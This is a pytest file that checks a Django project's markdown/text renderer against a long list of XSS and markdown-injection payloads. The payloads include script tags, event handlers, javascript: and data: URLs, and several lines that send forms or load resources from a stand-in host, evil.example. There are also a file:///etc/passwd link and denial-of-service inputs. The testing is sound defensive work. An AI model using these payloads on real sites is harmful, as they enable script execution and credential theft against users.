"""hackit/text.py and hackit/markdown.py: nothing that people type can run, load, style or steal."""

import time

import pytest
from django.utils.safestring import SafeString
from hypothesis import given, settings
from hypothesis import strategies as st

from hackit.text import MAX_LENGTH, TextTooLong, render
from tests.hackit.html_checks import dangers

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror='alert(1)'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='//evil.example/x.swf'>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<form action=//evil.example><input name=password></form>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<p style='background:url(//evil.example/x)'>x</p>",
    "<a href=javascript:alert(1)>x</a>",
    "<a id=main name=attributes>x</a>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?php <img src=x onerror=alert(1)> ?>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](<java\\script:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    "[x](filesystem:http://evil.example/1)",
    "[x](jar:http://evil.example!/x)",
    "[x](view-source:javascript:alert(1))",
    "[x](feed:javascript:alert(1))",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[r]\n\n[r]: <javascript:alert(1)> 'title'",
    '[x](http://a.example "onmouseover=alert(1)")',
    "[x](http://a.example '\" onmouseover=alert(1) x=\"')",
    '[x](http://a.example/"onmouseover="alert(1))',
    "[<img src=x onerror=alert(1)>](http://a.example)",
    "<javascript:alert(1)>",
    '<http://a.example/"onmouseover=alert(1)>',
    "<https://a.example/'><script>alert(1)</script>",
    "![x](javascript:alert(1))",
    "![x](//evil.example/pixel.gif)",
    "![x](/\\evil.example/pixel.gif)",
    "![x](https://evil.example/pixel.gif)",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "![x](data:image/png;base64,AAAA)",
    "![x](pixel.gif)",
    '![x" onerror="alert(1)](/media/x.png)',
    '![x](/media/x.png "\\" onerror=alert(1)")',
    '![x](/media/x.png"onerror="alert(1))',
    "![<img src=x onerror=alert(1)>](/media/x.png)",
    "https://a.example/<script>alert(1)</script>",
    'https://a.example/"onmouseover="alert(1)',
    "https://a.example/?a=<svg/onload=alert(1)>",
    "# <script>alert(1)</script>",
    '## x" onclick="alert(1)',
    "## main",
    "`<script>alert(1)</script>`",
    '```js" onload="alert(1)\n<script>alert(1)</script>\n```',
    "    <script>alert(1)</script>",
    "| <script>alert(1)</script> | b |\n|:-:|--|\n| <img src=x onerror=alert(1)> | [x](javascript:1) |",
    "> <script>alert(1)</script>",
    "- <script>alert(1)</script>\n  - <svg onload=alert(1)>",
    "1. [x](javascript:alert(1))",
    "~~<script>alert(1)</script>~~",
    "**<b onmouseover=alert(1)>x</b>**",
    "text[^1]\n\n[^1]: <script>alert(1)</script> [x](javascript:alert(1))",
    "text[^<script>]\n\n[^<script>]: alert(1)",
    'text[^" onclick="a]\n\n[^" onclick="a]: x',
    "{{point:<script>}}",
    "{{point:k3m9x2p7qa}}<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "\\<script>alert(1)\\</script>",
    "＜script＞alert(1)＜/script＞",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "\u202e<script>alert(1)</script>",
    "<a href='http://a.example' ping='//evil.example'>x</a>",
    "<img src=x:x onerror=alert(1)//",
    "<x onclick=alert(1)>x</x>",
    "[x](http://a.example){onclick=alert(1) .danger #main}",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_typed_can_run_load_or_style(payload: str):
    for text in (
        payload,
        f"Words {payload} words",
        f"- {payload}\n\n> {payload}",
        f"# {payload}\n\n{payload}",
    ):
        html = render(text)
        assert dangers(html) == []
        assert isinstance(html, SafeString)


@pytest.mark.parametrize(
    "bad",
    [
        "<script>",
        "<img src=x onerror=a>",
        '<a href="javascript:a">',
        '<p style="a">',
        '<img src="//e.example/x">',
    ],
)
def test_the_check_itself_sees_a_danger(bad: str):
    assert dangers(bad)


@settings(max_examples=200, deadline=None)
@given(
    st.lists(
        st.sampled_from([*PAYLOADS, "\n", "\n\n", "[", "](", ")", "`", "**", "> ", "- ", "\\", " "]),
        max_size=6,
    )
)
def test_no_mixture_of_payloads_is_dangerous(parts: list[str]):
    assert dangers(render("".join(parts))) == []


def test_typed_html_is_shown_as_it_was_typed():
    assert "&lt;b&gt;bold&lt;/b&gt;" in render("<b>bold</b>")


def test_a_text_over_the_limit_is_refused_by_its_bytes():
    render("a" * 1000)
    with pytest.raises(TextTooLong, match="200 kB"):
        render("é" * (MAX_LENGTH // 2 + 1))


@pytest.mark.parametrize("text", ["# a\n" * 20_000, "^[" * 40_000, "http://a" + ")" * 90_000, "> " * 50_000])
def test_a_hostile_text_renders_in_seconds(text: str):
    began = time.process_time()
    render(text)
    assert time.process_time() - began < 10
